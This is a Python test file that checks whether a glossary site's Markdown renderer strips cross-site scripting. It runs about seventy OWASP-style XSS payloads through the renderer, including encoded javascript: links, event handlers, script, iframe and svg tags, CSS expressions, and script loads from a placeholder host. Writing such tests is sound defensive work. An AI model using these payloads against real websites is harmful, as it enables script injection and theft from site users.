"""Definitions: Markdown in, HTML that cannot run anything out.

The corpus holds the classic vectors of the OWASP XSS filter evasion cheat
sheet, Markdown link tricks and their encoded variants. Every output is
parsed, and must hold only allowed tags and attributes, and links only to
http(s), mailto or relative URLs.
"""

import html
import re
from html.parser import HTMLParser

import pytest

from glossary.rendering import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, render_markdown

XSS = [
    # Markdown links and images with script URLs, plain and encoded.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&#x3A;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x]( javascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](DATA:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '[x](https://example.org "title" onmouseover=alert(1))',
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,alert(1)>",
    # Raw HTML: scripts, event handlers, frames, SVG, styles.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61>",
    '<IMG SRC="jav\tascript:alert(1);">',
    '<IMG SRC="jav&#x09;ascript:alert(1);">',
    '<IMG SRC=" &#14;  javascript:alert(1);">',
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<BODY ONLOAD=alert('XSS')>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>x",
    '<DIV STYLE="background-image: url(javascript:alert(1))">x</DIV>',
    '<DIV STYLE="width: expression(alert(1));">x</DIV>',
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
    '<TABLE BACKGROUND="javascript:alert(1)">',
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<p style="x:expression(alert(1))">x</p>',
    "<x onclick=alert(1)>click",
    # Markdown that builds HTML around attacker text.
    "**<img src=x onerror=alert(1)>**",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "# <svg onload=alert(1)>",
    '> <a href="javascript:alert(1)">quote</a>',
    "[<img src=x onerror=alert(1)>](https://example.org)",
]

SAFE_SCHEMES = {"http", "https", "mailto"}
SCHEME = re.compile(r"^\s*([a-zA-Z][a-zA-Z0-9+.\-]*):")


class Elements(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.found.append((tag, attrs))


def elements(fragment):
    parser = Elements()
    parser.feed(fragment)
    parser.close()
    return parser.found


def assert_inert(output):
    for tag, attrs in elements(output):
        assert tag in ALLOWED_TAGS, (tag, output)
        allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel"}
        for name, value in attrs:
            assert name in allowed, (tag, name, output)
            assert not name.startswith("on"), output
            if name == "href":
                # As a browser reads it: entities decoded, tabs, newlines and
                # control characters dropped.
                url = re.sub(r"[\x00-\x20]", "", html.unescape(value or ""))
                scheme = SCHEME.match(url)
                assert scheme is None or scheme.group(1).lower() in SAFE_SCHEMES, output


@pytest.mark.parametrize("payload", XSS)
def test_no_xss_vector_survives_rendering(payload):
    output = render_markdown(payload)
    assert_inert(output)
    lowered = output.lower()
    for marker in ("<script", "<iframe", "<svg", "<img", "<style", "<object", "<embed"):
        assert marker not in lowered, output
    # Attacker text may remain, escaped, as text; inside a tag it must not.
    for tag in re.findall(r"<[^>]*>", lowered):
        assert "style" not in tag, output
        assert not re.search(r"\son[a-z]+", tag), output


@pytest.mark.parametrize("payload", XSS)
def test_no_xss_vector_survives_inside_a_list_or_quote(payload):
    for wrapped in (f"- {payload}", f"> {payload}", f"Some *text* {payload} after"):
        assert_inert(render_markdown(wrapped))


def test_raw_html_is_shown_as_text():
    assert render_markdown("<b>bold</b>") == "<p>&lt;b&gt;bold&lt;/b&gt;</p>"


def test_script_urls_stay_text_not_links():
    output = render_markdown("[x](javascript:alert(1))")
    assert "<a" not in output
    assert "[x](javascript:alert(1))" in output


def test_markdown_formatting_is_kept():
    output = render_markdown(
        "A **bold** and *em* [link](https://example.org/a?b=1&c=2) with `code`.\n\n"
        "- one\n- two\n\n> quoted"
    )
    assert "<strong>bold</strong>" in output
    assert "<em>em</em>" in output
    assert '<a href="https://example.org/a?b=1&amp;c=2" rel="noopener noreferrer">' in (
        output
    )
    assert "<code>code</code>" in output
    assert "<ul>" in output and "<li>one</li>" in output
    assert "<blockquote>" in output


def test_relative_and_mailto_links_are_kept():
    output = render_markdown("[a](/concepts/rlhf/) [b](mailto:editor@example.org)")
    assert 'href="/concepts/rlhf/"' in output
    assert 'href="mailto:editor@example.org"' in output


def test_the_biggest_heading_becomes_h2_so_the_page_keeps_heading_order():
    assert render_markdown("## History\n\n### Early").startswith(
        "<h2>History</h2>\n<h3>Early</h3>"
    )
    assert render_markdown("# Title").startswith("<h2>Title</h2>")


def test_tables_render_without_style_attributes():
    output = render_markdown("| a | b |\n|--:|:-:|\n| 1 | 2 |")
    assert "<table>" in output and "<td>1</td>" in output
    assert "style" not in output


def test_empty_text_renders_nothing():
    assert render_markdown("") == ""
    assert render_markdown("   \n ") == ""
